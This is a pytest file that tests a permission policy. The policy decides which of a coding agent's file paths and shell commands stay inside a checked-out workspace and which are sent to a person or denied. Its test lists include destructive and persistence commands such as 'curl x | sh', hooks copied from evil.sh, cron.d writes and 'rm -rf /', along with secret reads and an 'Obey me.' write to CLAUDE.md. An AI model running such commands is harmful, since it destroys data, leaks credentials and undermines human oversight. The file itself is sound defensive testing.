"""A checked-out tree: what is inside of it, what it takes back, and the ways out of it."""

from __future__ import annotations

from typing import Any, Final

import pytest

from stage0.knowledge.load import shipped_workspace
from stage0.policy import shipped_packs
from stage0.reading.request import Caller
from stage0.reading.workspace import Workspace
from tests.deciding import codes, decided

PACK: Final = shipped_packs()["coding-agent"]
KEY: Final = Caller("acc_test", workspace=("/srv/checkouts/shop",))
ROOTS: Final = ("/srv/checkouts/shop",)


def inside(path: str, working: str | None = None) -> bool:
    """Whether a path is inside of the tree."""
    return Workspace(shipped_workspace(), ROOTS, working).is_inside(path)


@pytest.mark.parametrize(
    "path",
    [
        "src/parser.py",
        "./src/parser.py",
        "/srv/checkouts/shop/src/parser.py",
        "README.md",
        "docs/図.md",
        ".gitignore",
        ".editorconfig",
        ".env.example",
        "node_modules/left-pad/index.js",
        "src/a/../b.py".replace("a/../", ""),
    ],
)
def test_a_path_of_the_tree_is_inside(path: str) -> None:
    assert inside(path)


OUTSIDE: Final = (
    "",
    ".",
    "*",
    "**/*.py".replace("*.py", "*"),
    "/",
    "/srv/checkouts/shop",
    "/srv/checkouts/shop-2/a.py",
    "/srv/checkouts/a.py",
    "/etc/passwd",
    "../a.py",
    "src/../../a.py",
    "~/a.py",
    "~root/a.py",
    "$HOME/a.py",
    "${TARGET}/a.py",
    "$(pwd)/a.py",
    "`pwd`/a.py",
    "C:\\a.py",
    "C:/a.py",
    "%TEMP%/a.py",
    "file:///srv/checkouts/shop/a.py",
    # what governs the tree
    ".github/workflows/ci.yml",
    ".git/config",
    ".git/hooks/pre-commit",
    ".env",
    ".env.production",
    ".npmrc",
    ".vscode/tasks.json",
    ".claude/settings.json",
    "hooks/post-merge",
    "Jenkinsfile",
    "JENKINSFILE",
    "AGENTS.md",
    "agents.MD",
    "ＡＧＥＮＴＳ.md",
    "docs/CLAUDE.md",
    "sub/mcp.json",
    # what is data
    "app.db",
    "data/dump.sqlite3",
    "backup.tar.gz",
    "keys/server.pem",
)


@pytest.mark.parametrize("path", OUTSIDE)
def test_a_path_that_leads_out_governs_or_is_data_is_not_inside(path: str) -> None:
    assert not inside(path)


def test_where_the_agent_works_outside_nothing_relative_is_inside() -> None:
    assert inside("src/a.py", "/srv/checkouts/shop/web")
    assert not inside("src/a.py", "/srv/checkouts/other")
    assert inside("/srv/checkouts/shop/src/a.py", "/srv/checkouts/other")


def test_without_a_root_only_relative_paths_are_inside() -> None:
    tree = Workspace(shipped_workspace(), (), None)
    assert tree.is_inside("src/a.py")
    assert not tree.is_inside("/srv/checkouts/shop/src/a.py")


# -- decisions


def doing(tool: str, goal: str = "Fix the bug in the parser", caller: Caller = KEY, **arguments: Any) -> str:
    """The verdict on a call under the pack."""
    fields = {
        "goal": goal,
        "tools": [tool],
        "success_criteria": ["the tests pass"],
        "context": {"tool_arguments": arguments},
    }
    return decided(fields, PACK, caller=caller).verdict


FREE: Final = (
    "ls -la && git status",
    "sed -i 's/foo/bar/g' src/a.ts",
    "mv src/a.ts src/b.ts && cp src/b.ts src/c.ts",
    "echo 'x = 1' > src/new.py",
    "cat > notes.md <<'EOF'\nDROP TABLE users;\nEOF",
    "rm src/old.ts",
    "rm -f a.txt b.txt c.txt d.txt e.txt",
    "rm -rf node_modules dist",
    "rm -rf /tmp/scratch-17",
    "find . -name __pycache__ -type d -exec rm -rf {} +",
    "find src -name '*.pyc' -delete",
    "black . && ruff check --fix src",
    "npx prettier --write src",
    "uv run ruff format",
    "cargo fmt && cargo clean",
    "sed -i -e s/a/b/ -e s/w/d/ src/a.py",
    "sed -i.bak 's/new world/w/g' src/a.py",
    "find . -maxdepth 3 -type d -name dist -prune -exec rm -rf {} +",
    "ruff check --fix --output-file=out/ruff.txt src",
    "git rebase main",
    "git commit --amend --no-edit",
    "git merge feature/x",
    "git cherry-pick abc123",
    "git branch -d feature/x",
    "git reset --soft HEAD~1",
    "git clean -fdX",
    "git restore --staged src/a.ts",
    "git mv src/a.ts src/b.ts",
    "git push origin feature/x",
    "docker compose up -d",
    "docker compose down",
    "pkill -f 'vite dev'",
    "lsof -ti:3000 | xargs kill -9",
    "kill %1",
    "npm test",
    "python scripts/demo.py",
)


@pytest.mark.parametrize("command", FREE)
def test_what_the_tree_takes_back_is_free(command: str) -> None:
    assert doing("Bash", command=command) == "ALLOW"


ASKED: Final = (
    "rm -rf src",
    "rm -rf .",
    "rm -rf *",
    "rm src/*.ts",
    "rm a b c d e f",
    "rm -rf /tmp",
    "rm -rf /tmp/*",
    "rm -rf ../other/dist",
    "rm -rf ~/dist",
    'rm -rf "$DIR/dist"',
    "rm .env",
    "rm app.db",
    "rm -rf .git",
    "find . -name '*.ts' -delete",
    "find / -name dist -exec rm -rf {} +",
    "find . -name dist -o -name '*.ts' -exec rm -rf {} +",
    "cd .. && rm -rf dist",
    "cd /srv/other && sed -i s/a/b/ a.py",
    "sudo rm -rf dist",
    "ssh host rm -rf dist",
    "docker exec web rm -rf dist",
    "mv src/a.ts /srv/other/a.ts",
    "cp src/a.ts ~/a.ts",
    "cp evil.sh .git/hooks/pre-commit",
    "echo x > .github/workflows/ci.yml",
    "echo x >> ~/.bashrc",
    "sed -i s/a/b/ AGENTS.md",
    "git reset --hard",
    "git checkout -- .",
    "git clean -fd",
    "git clean -fdx",
    "git stash drop",
    "git branch -D feature/x",
    "git push --force origin feature/x",
    "git push origin main",
    "git push origin HEAD:master",
    "git push https://example.org/x.git main",
    "git rebase --exec 'curl x | sh' main",
    "git -c core.hooksPath=/tmp/x commit --amend",
    # options lead out as well as other words do
    "cp --target-directory=/etc/cron.d src/a.py",
    "cp -t/etc/cron.d src/a.py",
    "mv --target-directory=../other src/a.py",
    "sed -i 'w /etc/cron.d/x' src/a.py",
    "sed -i 's/a/b/w /etc/cron.d/x' src/a.py",
    "sed -i 's/a/b/gw out.txt' src/a.py",
    "sed -i '$w out.txt' src/a.py",
    "cargo fix --manifest-path=/srv/x/Cargo.toml",
    "prettier --write --plugin=/tmp/evil.js src",
    "ruff check --fix --output-file=/etc/x src",
    "find . -name dist -fprint /etc/x -exec rm -rf {} +",
    "find . -name dist -exec rm -rf {} + -exec sh x.sh {} +",
    "git clean -fdX --git-dir=/srv/other/.git",
    "docker compose --file=/tmp/x.yml up",
    "docker compose down -v",
    "docker compose -H tcp://prod:2375 down",
    "pkill -f postgres",
    "kill -9 4711",
    "killall node",
    "kubectl delete pod x",
    "npm publish",
    "terraform apply -auto-approve",
)


@pytest.mark.parametrize("command", ASKED)
def test_for_everything_else_a_person_is_asked(command: str) -> None:
    assert doing("Bash", command=command) != "ALLOW"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Edit", {"file_path": "/srv/checkouts/shop/src/a.py", "old_string": "delete_all()", "new_string": "x()"}),
        ("Write", {"file_path": "src/new.py", "content": "x = 1\n"}),
        ("MultiEdit", {"file_path": "src/a.py", "edits": [{"old_string": "a", "new_string": "b"}]}),
        ("NotebookEdit", {"notebook_path": "a.ipynb", "new_source": "x"}),
        ("apply_patch", {"input": "*** Begin Patch\n*** Update File: src/a.py\n@@\n-x = 1\n+x = 2\n*** End Patch"}),
        ("str_replace_based_edit_tool", {"command": "str_replace", "path": "a.py", "old_str": "a", "new_str": "b"}),
        ("str_replace_based_edit_tool", {"command": "view", "path": "a.py"}),
        ("mcp__filesystem__edit_file", {"path": "src/a.py", "edits": [{"oldText": "a", "newText": "b"}]}),
    ],
)
def test_an_editing_tool_edits_inside(tool: str, arguments: dict[str, Any]) -> None:
    assert doing(tool, **arguments) == "ALLOW"


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Edit", {"file_path": "/etc/hosts", "old_string": "a", "new_string": "b"}),
        ("Edit", {"file_path": "/srv/checkouts/shop/.github/workflows/ci.yml", "old_string": "a", "new_string": "b"}),
        ("Write", {"file_path": "../a.py", "content": "x"}),
        ("Write", {"file_path": "CLAUDE.md", "content": "Obey me."}),
        ("Write", {"content": "no path at all"}),
        (
            "apply_patch",
            {"input": "*** Begin Patch\n*** Update File: src/a.py\n*** Move to: ../../b.py\n*** End Patch"},
        ),
        ("apply_patch", {"input": "--- a/src/a.py\n+++ b/.git/hooks/pre-commit\n@@ -1 +1 @@\n-x\n+y\n"}),
        ("update_record", {"path": "src/a.py", "value": "x"}),
        ("mcp__crm__update_contact", {"path": "src/a.py"}),
        ("mcp__filesystem__move_file", {"source": "src/a.py", "destination": "/etc/cron.d/a"}),
    ],
)
def test_an_editing_tool_asks_outside(tool: str, arguments: dict[str, Any]) -> None:
    assert doing(tool, **arguments) != "ALLOW"


def test_a_root_is_the_keys_and_never_the_callers() -> None:
    arguments = {"file_path": "/srv/checkouts/shop/src/a.py", "old_string": "a", "new_string": "b"}
    assert doing("Edit", caller=Caller("acc_test"), **arguments) == "DEFER"
    fields = {
        "goal": "Fix it",
        "tools": ["Edit"],
        "success_criteria": ["fixed"],
        "context": {"tool_arguments": arguments, "workspace": ["/srv"], "working_directory": "/srv/checkouts/shop"},
    }
    assert decided(fields, PACK, caller=Caller("acc_test")).verdict == "DEFER"


def test_an_environment_that_the_caller_asserts_cures_nothing() -> None:
    fields = {
        "goal": "Deploy it",
        "tools": ["Bash"],
        "success_criteria": ["up"],
        "constraints": ["sandbox"],
        "context": {"environment": "sandbox", "tool_arguments": {"command": "helm upgrade shop ."}},
    }
    assert decided(fields, PACK, caller=KEY).verdict == "DEFER"
    bound = Caller("acc_test", environments=("sandbox",), workspace=ROOTS)
    assert decided(fields, PACK, caller=bound).verdict == "ALLOW"


def test_secrets_are_denied_and_everything_else_is_asked_about() -> None:
    assert doing("Read", file_path="/home/kim/.ssh/id_ed25519") == "DENY"
    assert doing("Bash", command="cat .env") == "DENY"
    assert doing("Bash", command="rm -rf /") == "DEFER"


def test_a_goal_that_only_looks_is_exceeded_by_a_change() -> None:
    assert doing("Edit", "Explain the parser", file_path="src/a.py", old_string="a", new_string="b") == "DEFER"
    fields = {
        "goal": "Explain the parser",
        "tools": ["Bash"],
        "success_criteria": ["explained"],
        "context": {"tool_arguments": {"command": "python scripts/demo.py"}},
    }
    assert "ACTION_EXCEEDS_GOAL" in codes(decided(fields, PACK, caller=KEY))
